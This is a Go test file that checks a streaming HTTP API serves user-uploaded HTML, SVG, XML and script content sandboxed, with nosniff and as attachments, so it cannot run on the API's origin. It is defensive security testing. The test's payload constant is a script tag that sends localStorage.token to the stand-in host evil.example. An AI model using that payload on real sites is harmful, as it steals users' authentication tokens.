package durablestreams_test

import (
	"strings"
	"testing"

	"github.com/tetherhq/tether/api/durablestreams"
)

// TestHTTPActiveContentIsNeverRendered: a stream is served on the API's
// origin, which is the web page's (whose token is in localStorage), so a
// stream created as HTML or SVG must not run as a document there: every
// answer carries a sandboxing CSP and nosniff, and types a browser would
// render as a document or run as a script are served as attachments. The
// stream's content type is still echoed as the protocol says.
func TestHTTPActiveContentIsNeverRendered(t *testing.T) {
	s := newServer(t, durablestreams.Options{})
	const payload = `<script>fetch("https://evil.example/?t="+localStorage.token)</script>`
	for _, ct := range []string{"text/html", "text/html; charset=utf-8", "image/svg+xml", "application/xhtml+xml",
		"text/xml", "application/xml", "application/javascript", "text/javascript", "TEXT/HTML", "application/pdf",
		"multipart/x-mixed-replace; boundary=x"} {
		path := "xss/" + strings.NewReplacer(" ", "", "/", "-", ";", "", "=", "").Replace(ct)
		resp, body := s.do("PUT", path, payload, "Content-Type", ct)
		s.want(resp, body, 201)
		if resp.Header.Get("Content-Type") != ct {
			t.Fatalf("%s: PUT echoes %q", ct, resp.Header.Get("Content-Type"))
		}
		resp, _ = s.do("POST", path, "<b>more</b>", "Content-Type", ct)
		s.want(resp, "", 204)
		for _, q := range []string{"", "?offset=-1", "?offset=-1&live=long-poll"} {
			resp, body = s.do("GET", path+q, "")
			s.want(resp, body, 200)
			h := resp.Header
			if h.Get("Content-Type") != ct || !strings.Contains(body, "<script>") {
				t.Fatalf("%s: GET%s answers %q: %q", ct, q, h.Get("Content-Type"), body)
			}
			csp := h.Get("Content-Security-Policy")
			if !strings.Contains(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "frame-ancestors 'none'") {
				t.Errorf("%s: GET%s Content-Security-Policy %q", ct, q, csp)
			}
			if h.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("%s: GET%s without nosniff", ct, q)
			}
			if !strings.HasPrefix(h.Get("Content-Disposition"), "attachment") {
				t.Errorf("%s: GET%s Content-Disposition %q", ct, q, h.Get("Content-Disposition"))
			}
		}
		resp, _ = s.do("HEAD", path, "")
		if resp.Header.Get("Content-Type") != ct || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s: HEAD %v", ct, resp.Header)
		}
	}

	// Passive types are shown inline, still sandboxed.
	for _, ct := range []string{"application/json", "text/plain; charset=utf-8", "application/octet-stream", "application/ld+json", "application/x-ndjson"} {
		path := "ok/" + strings.NewReplacer(" ", "", "/", "-", ";", "", "=", "").Replace(ct)
		body := "x"
		if strings.Contains(ct, "json") {
			body = `{"a":1}`
		}
		resp, b := s.do("PUT", path, body, "Content-Type", ct)
		s.want(resp, b, 201)
		resp, b = s.do("GET", path, "")
		s.want(resp, b, 200)
		if resp.Header.Get("Content-Disposition") != "" || !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s: %v", ct, resp.Header)
		}
	}
	// Errors and thread logs too.
	resp, _ := s.do("GET", "missing", "")
	if !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
		t.Errorf("404: %v", resp.Header)
	}
}
